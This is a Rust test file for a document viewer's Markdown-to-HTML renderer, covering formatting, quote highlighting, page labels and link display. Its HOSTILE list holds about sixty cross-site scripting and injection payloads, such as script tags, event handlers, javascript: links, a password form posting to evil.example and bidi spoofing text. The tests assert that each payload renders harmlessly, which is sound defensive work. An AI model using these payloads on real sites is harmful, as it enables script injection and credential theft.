//! What the viewer makes of Markdown, of quotes and of hostile text.

use proptest::prelude::*;
use vouch_index::ledger::{DocumentText, Facts};

use super::*;

/// Every tag that a page's text may hold, apart from links.
const ALLOWED: &[&str] = &[
    "p",
    "ul",
    "li",
    "em",
    "strong",
    "del",
    "code",
    "pre",
    "blockquote",
    "hr",
    "br",
    "mark",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "table",
    "thead",
    "tr",
    "th",
    "td",
    "div class=\"wide\" tabindex=\"0\" role=\"region\" aria-label=\"Table\"",
    "div class=\"plain\"",
    "div class=\"plain raw\"",
    "p class=\"page\"",
    "mark id=\"quote\"",
    "span class=\"address\"",
];

fn document(path: &str, title: &str, text: &str) -> DocumentText {
    DocumentText {
        document: path.to_owned(),
        title: title.to_owned(),
        version: String::new(),
        language: String::new(),
        text: text.to_owned(),
        pages: Vec::new(),
        live: true,
        newer: None,
        facts: Facts {
            uri: None,
            modified_at: String::new(),
            approved_at: None,
            approved_by: None,
            review_due: None,
            stale: false,
            owner: String::new(),
            authority: 0,
        },
    }
}

fn html(text: &str) -> String {
    render(&document("hr/a.md", "Title", text), None).body.0
}

/// The page with the quote between `[[` and `]]` of the text highlighted.
fn quoted(path: &str, text: &str) -> Rendered {
    let start = text.find("[[").unwrap();
    let end = text.find("]]").unwrap() - 2;
    let text = text.replace("[[", "").replace("]]", "");
    render(&document(path, "Title", &text), Some(start..end))
}

/// What stands between the tags of a page, with its entities read; `marked` alone if that is asked for.
fn shown(html: &str, marked: bool) -> String {
    let mut out = String::new();
    let mut inside = !marked;
    for piece in html.split('<') {
        let (tag, text) = piece.split_once('>').unwrap_or(("", piece));
        if marked {
            inside = tag.starts_with("mark") || (inside && tag != "/mark");
        }
        if inside && !tag.starts_with("span class=\"address\"") {
            out.push_str(text);
        }
    }
    let pairs = [("&lt;", "<"), ("&gt;", ">"), ("&quot;", "\""), ("&#39;", "'"), ("&amp;", "&")];
    pairs.iter().fold(out, |out, (entity, c)| out.replace(entity, c))
}

/// Panics unless the page has nothing but allowed tags, each of them closed in its order.
fn assert_harmless(html: &str) {
    let mut open = Vec::new();
    for piece in html.split('<').skip(1) {
        let (tag, text) =
            piece.split_once('>').unwrap_or_else(|| panic!("no tag: {piece} in {html}"));
        assert!(!text.contains('>'), "{html}");
        assert!(text.chars().all(visible), "{html}");
        if let Some(name) = tag.strip_prefix('/') {
            assert_eq!(open.pop(), Some(name), "{html}");
            continue;
        }
        let known = ALLOWED.contains(&tag) || harmless_link(tag) || numbered(tag);
        assert!(known, "<{tag}> in {html}");
        let name = tag.split(' ').next().unwrap();
        if !["hr", "br"].contains(&name) {
            assert!(name != "mark" || !open.contains(&"mark"), "{html}");
            open.push(name);
        }
    }
    assert!(open.is_empty(), "{open:?} in {html}");
    let ampersands = html.split('&').skip(1);
    for rest in ampersands {
        let known =
            ["lt;", "gt;", "amp;", "quot;", "#39;"].iter().any(|known| rest.starts_with(known));
        assert!(known, "&{rest}");
    }
}

fn harmless_link(tag: &str) -> bool {
    let address =
        tag.strip_prefix("a href=\"").and_then(|rest| rest.strip_suffix("\" rel=\"noreferrer\""));
    address.is_some_and(|address| {
        (address.starts_with("https://") || address.starts_with("mailto:"))
            && !address.contains(['"', '\'', '<', '>', ' ', '\\'])
    })
}

fn numbered(tag: &str) -> bool {
    tag.strip_prefix("ol start=\"")
        .and_then(|rest| rest.strip_suffix('"'))
        .is_some_and(|number| number.chars().all(|c| c.is_ascii_digit()))
}

#[test]
fn markdown_becomes_elements() {
    let cases = [
        (
            "## Leave\n\nTake *all* of **it**.",
            "<h3>Leave</h3><p>Take <em>all</em> of <strong>it</strong>.</p>",
        ),
        ("- a\n- b", "<ul><li>a</li><li>b</li></ul>"),
        ("3. a\n4. b", "<ol start=\"3\"><li>a</li><li>b</li></ol>"),
        ("> said", "<blockquote><p>said</p></blockquote>"),
        ("a\\\nb\n\n---", "<p>a\n<br>b</p><hr>"),
        ("`a < b`\n\n```sh\nrm\n```", "<p><code>a &lt; b</code></p><pre><code>rm\n</code></pre>"),
        ("~~old~~ new", "<p><del>old</del> new</p>"),
        (
            "| a | b |\n|---|---|\n| 1 | 2 |",
            "<div class=\"wide\" tabindex=\"0\" role=\"region\" aria-label=\"Table\"><table>\
             <thead><tr><th>a</th><th>b</th></tr></thead>\
             <tr><td>1</td><td>2</td></tr></table></div>",
        ),
        ("![the plan](https://e.example/x.png)", "<p>the plan</p>"),
        ("<b>bold</b>", "<p>&lt;b&gt;bold&lt;/b&gt;</p>"),
        ("## Leave {#leave onclick=x}", "<h3>Leave</h3>"),
        ("[rules](rules.md)", "<p>rules</p>"),
        (
            "[rules](https://a.example/b?c=1&d)",
            "<p><a href=\"https://a.example/b?c=1&amp;d\" rel=\"noreferrer\">rules</a> \
             <span class=\"address\">(a.example)</span></p>",
        ),
    ];
    for (text, expected) in cases {
        assert_eq!(html(text), expected, "{text}");
        assert_harmless(&html(text));
    }
}

#[test]
fn a_first_heading_that_says_the_title_moves_to_the_head_with_its_mark() {
    let page = quoted("hr/a.md", "# [[Title]]\n\nText.\n\n## Title\n");
    assert_eq!(page.title.unwrap().0, "<mark id=\"quote\">Title</mark>");
    assert_eq!(page.body.0, "<p>Text.</p><h3>Title</h3>");
    let page = quoted("hr/a.md", "# Another\n\n# Title\n\n[[Text]].");
    assert!(page.title.is_none());
    assert!(page.body.0.starts_with("<h2>Another</h2><h2>Title</h2>"), "{}", page.body.0);
    let page = quoted("hr/a.pdf", "Company\n\n# Title\n\n[[Text]].");
    assert_eq!(page.title.unwrap().0, "Title");
    assert_eq!(page.body.0, "<p>Company</p><p><mark id=\"quote\">Text</mark>.</p>");
    let page = quoted("hr/a.txt", "Title\n\nIt is **[[so]]**.");
    assert_eq!(page.title.unwrap().0, "Title");
    assert_eq!(page.body.0, "<div class=\"plain\">It is **<mark id=\"quote\">so</mark>**.</div>");
}

#[test]
fn a_quote_is_marked_where_its_bytes_are_visible() {
    let cases = [
        ("Take [[28 days]] off.", "28 days"),
        ("[[Open **Portal > My HR** and `sign`]] it.", "Open Portal > My HR and sign"),
        ("Open *[[*Por]]tal** now.", "Por"),
        ("Use `l[[ea]]ve` now", "ea"),
        ("Use `` [[`]] `` now", "`"),
        ("[[Fish &amp; chips]] here", "Fish & chips"),
        ("Fish &a[[m]]p; chips", "&"),
        ("- one [[two\n- three]] four", "twothree"),
        ("| a | b |\n|---|---|\n| [[1 | 2]] |", "12"),
        ("```\nlet [[x = 1]];\n```", "x = 1"),
        ("> said [[one\n> two]] three", "one two"),
        ("an ![[[image]] here](x.png)", "image"),
        ("grün[[e Äpf]]el", "e Äpf"),
        ("**bold[[**]] words", ""),
    ];
    for (text, expected) in cases {
        let page = quoted("hr/a.md", text).body.0;
        assert_harmless(&page);
        let marked = shown(&page, true);
        assert_eq!(marked.split_whitespace().collect::<Vec<_>>().join(" "), expected, "{page}");
    }
}

#[test]
fn a_quote_that_is_no_piece_of_the_text_marks_nothing() {
    let backwards = Range { start: 5, end: 2 };
    for range in [backwards, 0..999, 999..1000, 1..2, 3..3, usize::MAX..usize::MAX, 0..usize::MAX] {
        for path in ["hr/a.md", "hr/a.txt"] {
            let page = render(&document(path, "Title", "äöü **x**"), Some(range.clone()));
            assert!(!page.body.0.contains("<mark"), "{range:?}");
        }
    }
}

#[test]
fn pages_are_told_apart() {
    let mut pdf = document("hr/a.pdf", "Title", "One.\n\nTwo.\n");
    pdf.pages = vec![0, 6];
    let page = render(&pdf, Some(6..9)).body.0;
    assert_eq!(
        page,
        "<p>One.</p><p class=\"page\">Page 2</p><p><mark id=\"quote\">Two</mark>.</p>"
    );
    // Offsets that no extraction would write.
    pdf.pages = vec![9, 3, 5000, 0];
    assert_harmless(&render(&pdf, Some(2..7)).body.0);
}

#[test]
fn deep_nesting_ends_somewhere_and_loses_no_text() {
    let page = html(&format!("{} deep", ">".repeat(5000)));
    assert_harmless(&page);
    assert!(page.matches("<blockquote>").count() <= DEPTH && page.contains("deep"));
}

/// What somebody may write who wants a reader's browser to do something.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=evil.swf></object>",
    "<embed src=evil.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import url(//evil.example/x.css)</style>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password></form>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<!-- --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "</article></main><script>alert(1)</script>",
    "</mark><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\u{9}script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "[x](http://evil.example)",
    "[x](//evil.example)",
    "[x](/signout)",
    "[x](https://evil.example/\"onclick=alert(1))",
    "[x](<https://evil.example/ onclick=alert(1)>)",
    "[https://bank.example](https://bank.example@evil.example/)",
    "[x](https://evil.example\\@bank.example)",
    "[x](https://bänk.example)",
    "[x](mailto:a@b.example?bcc=all@b.example)",
    "[x](mailto:\"><script>alert(1)</script>)",
    "[x][r]\n\n[r]: javascript:alert(1) \"t\"",
    "<javascript:alert(1)>",
    "![x](https://evil.example/track.gif)",
    "![x\"onerror=alert(1)](y)",
    "![<script>alert(1)</script>](y)",
    "[![x](https://evil.example/a)](javascript:alert(1))",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```html\" onclick=\"alert(1)\n<b>\n```",
    "# <img src=x onerror=alert(1)> {onclick=alert(1)}",
    "| <script> | b |\n|---|---|\n| </table> | <img src=x> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "pay \u{202e}01 to\u{202c} \u{2066}me\u{2069}",
    "pay &#x202e;01 to &#x2066;me",
    "nul &#0; \u{0} bell &#7; escape \u{1b}[31m",
    "0. a\n99999999999999999999. b",
    "- [ ] <script>\n- [x] y",
    "$$<script>alert(1)</script>$$ [^1]\n\n[^1]: <script>",
];

#[test]
fn promise_10_hostile_markup_is_shown_as_text_or_not_at_all() {
    assert!(HOSTILE.len() >= 40);
    for text in HOSTILE {
        for path in ["hr/a.md", "hr/a.txt", "hr/a.pdf"] {
            for title in ["Title", text] {
                let page = render(&document(path, title, text), Some(0..text.len()));
                assert_harmless(&page.body.0);
                assert_harmless(&page.title.map(|title| title.0).unwrap_or_default());
            }
        }
        if !text.contains("https://") {
            assert!(!html(text).contains("<a "), "{text}");
        }
    }
}

#[test]
fn promise_10_a_link_says_where_it_leads() {
    for (address, place) in [
        ("https://a.example/b", Some("a.example")),
        ("https://a.example:8443?x#y", Some("a.example:8443")),
        ("mailto:it+desk@a.example", Some("it+desk@a.example")),
        ("https://", None),
        ("https:a.example", None),
        ("HTTPS://a.example", None),
        ("https://user@a.example", None),
        ("mailto:a", None),
        ("mailto:a@b@c", None),
        ("mailto:a@b.example,c@d.example", None),
        ("http://a.example", None),
    ] {
        assert_eq!(destination(address), place, "{address}");
    }
}

/// Raw text with what is visible of each byte: a piece of Markdown by its markup and its words.
fn piece() -> impl Strategy<Value = Vec<(String, bool)>> {
    let word = "[a-zäß]{1,6}";
    let (markup, words) = (false, true);
    let wrap = move |before: &'static str, after: &'static str| {
        word.prop_map(move |inner| {
            vec![(before.to_owned(), markup), (inner, words), (after.to_owned(), markup)]
        })
    };
    prop_oneof![
        word.prop_map(move |inner| vec![(inner, words)]),
        wrap("**", "**"),
        wrap("*", "*"),
        wrap("`", "`"),
        wrap("~~", "~~"),
        wrap("[", "](javascript:x)"),
        wrap("[", "](https://a.example)"),
        wrap("![", "](x.png)"),
        Just(vec![("\\".to_owned(), markup), ("*".to_owned(), words)]),
        Just(vec![("<b>".to_owned(), words)]),
    ]
}

fn block() -> impl Strategy<Value = Vec<(String, bool)>> {
    let start =
        prop_oneof![Just(""), Just("# "), Just("- "), Just("1. "), Just("> "), Just("### ")];
    (start, prop::collection::vec(piece(), 1..6)).prop_map(|(start, pieces)| {
        let mut block = vec![(start.to_owned(), false), ("w".to_owned(), true)];
        for piece in pieces {
            block.push((" ".to_owned(), true));
            block.extend(piece);
        }
        block.push(("\n\n".to_owned(), false));
        block
    })
}

proptest! {
    #[test]
    fn the_marked_text_is_the_visible_text_of_the_quote(
        blocks in prop::collection::vec(block(), 1..6), a in any::<prop::sample::Index>(), b in any::<prop::sample::Index>(),
    ) {
        let pieces: Vec<_> = blocks.concat();
        let mut raw = String::new();
        let mut seen = Vec::new();
        for (text, is_visible) in &pieces {
            raw.push_str(text);
            seen.extend(std::iter::repeat_n(*is_visible, text.len()));
        }
        let places: Vec<usize> = (0..=raw.len()).filter(|&at| raw.is_char_boundary(at)).collect();
        let (a, b) = (*a.get(&places), *b.get(&places));
        let range = a.min(b)..a.max(b);
        let words: String = raw.char_indices()
            .filter(|(at, _)| range.contains(at) && seen[*at]).map(|(_, c)| c).collect();
        let page = render(&document("hr/a.md", "", &raw), Some(range));
        assert_harmless(&page.body.0);
        prop_assert_eq!(shown(&page.body.0, true), words, "{} in {}", page.body.0, raw);
    }

    #[test]
    fn promise_10_nothing_but_allowed_tags_comes_out(
        pieces in prop::collection::vec(prop_oneof![
            prop::sample::select(HOSTILE).prop_map(str::to_owned),
            prop::sample::select(&["\n", "\n\n", "> ", "- ", "    ", "| a |\n|---|\n", "**", "`", "]", "(", "\\", "&amp;"][..]).prop_map(str::to_owned),
            "\\PC{0,8}",
        ], 0..12),
        start in 0_usize..200, length in 0_usize..200,
    ) {
        let text = pieces.concat();
        for path in ["hr/a.md", "hr/a.txt"] {
            let page = render(&document(path, "Title", &text), Some(start..start + length));
            assert_harmless(&page.body.0);
        }
    }
}
